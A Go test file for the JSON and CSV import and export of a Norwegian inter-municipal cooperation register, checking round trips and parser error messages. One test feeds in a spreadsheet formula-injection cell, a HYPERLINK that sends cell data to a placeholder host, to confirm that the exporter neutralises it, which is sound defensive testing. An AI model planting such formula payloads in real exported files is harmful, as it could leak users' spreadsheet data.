package imc

import (
	"bytes"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"generalist"
)

func TestJSONRoundTrip(t *testing.T) {
	cs, err := Examples()
	if err != nil {
		t.Fatal(err)
	}
	back := reparse(t, cs, ExportJSON, ParseJSON, "export.json")
	if !reflect.DeepEqual(back, cs) {
		t.Error("JSON export and import differ")
	}
	// One object and a plain list are read too.
	one, _ := json.Marshal(cs[0])
	if got, err := ParseJSON(one, "one.json"); err != nil || len(got) != 1 || got[0].Name != cs[0].Name {
		t.Errorf("ParseJSON(object) = %d, %v", len(got), err)
	}
	list, _ := json.Marshal(cs)
	if got, err := ParseJSON(list, "list.json"); err != nil || len(got) != 4 {
		t.Errorf("ParseJSON(list) = %d, %v", len(got), err)
	}
}

func TestParseJSONErrors(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"Empty", "  ", "f.json: the file is empty"},
		{"Syntax", "{\n \"name\": \"x\",\n}", "f.json line 3, column 1: invalid character '}'"},
		{"Truncated", `{"name": "x"`, "f.json line 1, column 12: unexpected end of JSON input"},
		{"Scalar", `42`, "expected a cooperation object"},
		{"UnknownField", `{"name": "A", "colour": 1}`, `f.json line 1, column 1, cooperation 1 ("A"): unknown field "colour"`},
		{"WrongType", "[{\"name\": \"A\"},\n {\"name\": \"B\", \"participants\": \"1820\"}]", `f.json line 2, column 2, cooperation 2 ("B"): participants must be a list, not string (the value ends at line 2, column 38)`},
		{"BadDate", `{"name": "A", "start": "31.02.2026"}`, `cooperation 1 ("A"): date "31.02.2026"`},
		{"BadShare", `{"name": "A", "participants": [{"number": "1820", "ownership": 33.333}]}`, `share 33.333: at most two decimals`},
		{"BadOrg", `{"name": "A", "org_number": "974760674"}`, `check digit is wrong`},
		{"BadAmount", `{"name": "A", "budget": -5}`, `amount -5: must not be negative`},
		{"NotObject", `[1]`, `cooperation 1: must be an object`},
		{"NoCooperations", `{"cooperations": []}`, `no cooperations`},
		{"CooperationsNotList", `{"cooperations": {}}`, `"cooperations" must be a list`},
		{"Latin1", "{\"name\": \"T\xf8nsberg\"}", "not valid UTF-8"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseJSON([]byte(tt.in), "f.json")
			if generalist.ErrorCode(err) != generalist.EINVALID || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("ParseJSON = %v, want EINVALID containing %q", err, tt.want)
			}
		})
	}
}

func TestCSVRoundTrip(t *testing.T) {
	cs, err := Examples()
	if err != nil {
		t.Fatal(err)
	}
	back := reparse(t, cs, ExportCSV, ParseCSV, "export.csv")
	if len(back) != len(cs) {
		t.Fatalf("ParseCSV = %d cooperations, want %d", len(back), len(cs))
	}
	for i := range cs {
		// The CSV carries the register, not the agreement's clauses,
		// documents and process.
		want := cs[i]
		key := want.Agreement.CostKey
		want.Agreement = generalist.IMCAgreement{CostKey: key}
		want.Documents, want.Process = nil, nil
		if !reflect.DeepEqual(back[i], want) {
			gb, _ := json.Marshal(back[i])
			wb, _ := json.Marshal(want)
			t.Errorf("CSV round trip of %s:\n got %s\nwant %s", want.Name, gb, wb)
		}
	}
}

func TestParseCSVErrors(t *testing.T) {
	head := "navn;form;start;deltaker;eierandel\n"
	for _, tt := range []struct{ name, in, want string }{
		{"Empty", "", "f.csv: the file is empty"},
		{"UnknownColumn", "navn;form;start;deltaker;farge\n", `f.csv line 1, field 5 (farge): unknown column "farge"`},
		{"MissingColumn", "navn;form;start\n", `the column "deltaker" is required`},
		{"TwiceColumn", "navn;navn;form;start;deltaker\n", `column "navn" appears twice`},
		{"NoRows", head, "no rows after the header"},
		{"BadForm", head + "A;samkommune;2020-01-01;1820;\n", `f.csv line 2, field 2 (form), cooperation "A": form "samkommune"`},
		{"BadDate", head + "A;ko;2020-13-01;1820;\n", `f.csv line 2, field 3 (start), cooperation "A": date "2020-13-01"`},
		{"BadShare", head + "A;ko;2020-01-01;1820;33,333\n", `f.csv line 2, field 5 (eierandel), cooperation "A": share "33,333"`},
		{"NoParticipant", head + "A;ko;2020-01-01;;\n", `line 2, field 4 (deltaker), cooperation "A": the participant's number is empty`},
		{"NoName", head + ";ko;2020-01-01;1820;\n", `(navn): the name is empty`},
		{"FieldCount", head + "A;ko;2020-01-01\n", `f.csv line 2, cooperation "A": 3 fields, but the header has 5`},
		{"Conflict", head + "A;ko;2020-01-01;1820;50\nA;ipr;2020-01-01;1822;50\n", `f.csv line 3, field 2 (form), cooperation "A": form differs from line 2 for the same cooperation "A"`},
		{"Quote", head + "A;ko;\"2020;1820;\n", `f.csv line 2`},
		{"Latin1", head + "T\xf8nsberg;ko;2020-01-01;3905;\n", "not valid UTF-8"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseCSV([]byte(tt.in), "f.csv")
			if generalist.ErrorCode(err) != generalist.EINVALID || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("ParseCSV = %v, want EINVALID containing %q", err, tt.want)
			}
		})
	}
	// Commas, and a later row filling in what the first left empty.
	got, err := ParseCSV([]byte("navn,form,start,deltaker,vert\nA,ko,2020-01-01,1820,\nA,ko,,1822,1822\n"), "f.csv")
	if err != nil || len(got) != 1 || len(got[0].Participants) != 2 || got[0].Host != "1822" {
		t.Errorf("ParseCSV(commas) = %+v, %v", got, err)
	}
}

// TestCSVFormulas: a cell a spreadsheet would run as a formula is written
// with a leading apostrophe, which ParseCSV drops again; numbers keep
// their sign.
func TestCSVFormulas(t *testing.T) {
	cs, err := Examples()
	if err != nil {
		t.Fatal(err)
	}
	c := cs[0]
	c.Name = `=HYPERLINK("http://x.example/?"&A1,"klikk")`
	c.Notes = "@SUM(A1:A9)"
	c.Participants = append([]generalist.IMCParticipant(nil), c.Participants...)
	c.Participants[0].Decision = "-1+2"
	c.Participants[0].Name = "+47 kommune"
	var buf bytes.Buffer
	if err := ExportCSV(&buf, []generalist.IMC{c}); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	for _, want := range []string{`"'=HYPERLINK(""http://x.example/?""&A1,""klikk"")"`, ";'@SUM(A1:A9);", ";'-1+2", ";'+47 kommune;"} {
		if !strings.Contains(got, want) {
			t.Errorf("ExportCSV lacks %s:\n%s", want, got)
		}
	}
	for _, line := range strings.Split(got, "\n") {
		for _, cell := range strings.Split(line, ";") {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") && strings.Trim(cell, "-0123456789,") != "" {
				t.Errorf("ExportCSV cell %q starts a formula", cell)
			}
		}
	}
	back, err := ParseCSV(buf.Bytes(), "export.csv")
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 1 || back[0].Name != c.Name || back[0].Notes != c.Notes || back[0].Participants[0].Decision != "-1+2" || back[0].Participants[0].Name != "+47 kommune" {
		t.Errorf("ParseCSV(ExportCSV) = %+v", back)
	}
}

// TestParseCSVProblems: a file with several bad rows is refused with every
// problem, each with its line, column and cooperation; comment lines and
// spreadsheet rows of only separators are skipped; the source is read.
func TestParseCSVProblems(t *testing.T) {
	in := "# Mal for samarbeid\nnavn;form;start;deltaker;kilde\n" +
		"# Eksempel;ko;2020-01-01;1820;x\n" +
		"A;ko;2020-01-01;1820;Statsforvalteren i Nordland 2024\n" +
		";;;;\n" +
		"B;samkommune;2020-01-01;1822;S\n" +
		"C;ko;1.13.2020;1818;S\n" +
		"A;ko;;1822;\n"
	_, err := ParseCSV([]byte(in), "f.csv")
	ps := ProblemsOf(err)
	if generalist.ErrorCode(err) != generalist.EINVALID || len(ps) != 2 {
		t.Fatalf("ParseCSV = %v with %d problems, want EINVALID with 2", err, len(ps))
	}
	want := []Problem{{Line: 6, Field: 2, Column: "form", Cooperation: "B"}, {Line: 7, Field: 3, Column: "start", Cooperation: "C"}}
	for i, w := range want {
		got := ps[i]
		got.Message = ""
		if got != w {
			t.Errorf("problem %d = %+v, want %+v", i, ps[i], w)
		}
	}
	if !strings.Contains(err.Error(), "(and 1 more problem)") {
		t.Errorf("ParseCSV error %q does not say there is one more problem", err)
	}
	good := strings.ReplaceAll(strings.ReplaceAll(in, "samkommune", "ko"), "1.13.2020", "1.12.2020")
	f, err := ParseFile([]byte(good), "f.csv", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Cooperations) != 3 || f.Cooperations[0].Source != "Statsforvalteren i Nordland 2024" || len(f.Cooperations[0].Participants) != 2 ||
		f.Cooperations[2].Start != "2020-12-01" || !reflect.DeepEqual(f.Lines, []int{4, 6, 7}) {
		t.Errorf("ParseFile = %+v", f)
	}
}

// TestParseJSONProblems: every bad cooperation of a JSON list is reported
// with its line and place in the file.
func TestParseJSONProblems(t *testing.T) {
	in := "[{\"name\": \"A\", \"start\": \"2020-01-01\"},\n {\"name\": \"B\", \"start\": \"x\"},\n {\"name\": \"C\", \"colour\": 1}]"
	_, err := ParseJSON([]byte(in), "f.json")
	ps := ProblemsOf(err)
	if len(ps) != 2 || ps[0].Line != 2 || ps[0].Index != 2 || ps[0].Cooperation != "B" || ps[1].Line != 3 || ps[1].Index != 3 {
		t.Errorf("ParseJSON problems = %+v (%v)", ps, err)
	}
}
